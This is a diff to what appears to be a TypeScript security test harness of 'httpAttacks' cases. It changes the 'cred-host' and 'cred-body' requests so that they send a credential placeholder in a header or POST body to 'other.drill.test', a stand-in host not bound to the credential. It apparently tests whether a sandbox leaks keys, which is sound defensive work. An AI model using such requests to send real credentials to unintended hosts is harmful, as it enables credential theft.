@@ -3,6 +3,8 @@ import { ATTEMPT_TIMEOUT_MS, type Attempt, CANARY_ANSWER, type Run } from './att
 import { sendTcp } from './network.ts'
 
 const API = 'api.drill.test'
+/** allowed too, and bound to no credential */
+const OTHER = 'other.drill.test'
 
 type Exchange = { servername?: string | undefined; connectTo?: string }
 
@@ -121,17 +123,20 @@ export const httpAttacks: Readonly<Record<string, Run>> = {
   ]),
   'cred-host': (id, { placeholder }) =>
     sendTls(
-      `GET /public/${id} HTTP/1.1\r\nHost: other.drill.test\r\nX-Api-Key: ${placeholder}\r\n\r\n`,
-      { servername: 'other.drill.test', connectTo: 'other.drill.test' },
+      `GET /public/${id} HTTP/1.1\r\nHost: ${OTHER}\r\nX-Api-Key: ${placeholder}\r\n\r\n`,
+      { servername: OTHER, connectTo: OTHER },
     ),
-  'cred-body': raw((id, key) => [
-    'POST /submit HTTP/1.1',
-    `Host: ${API}`,
-    `Content-Length: ${key.length + id.length + 1}`,
-    close,
-    '',
-    `${id}=${key}`,
-  ]),
+  'cred-body': raw(
+    (id, key) => [
+      'POST /submit HTTP/1.1',
+      `Host: ${OTHER}`,
+      `Content-Length: ${key.length + id.length + 1}`,
+      close,
+      '',
+      `${id}=${key}`,
+    ],
+    { servername: OTHER, connectTo: OTHER },
+  ),
   'cred-basic': raw((id, key) => [
     `GET /public/${id} HTTP/1.1`,
     `Host: ${API}`,
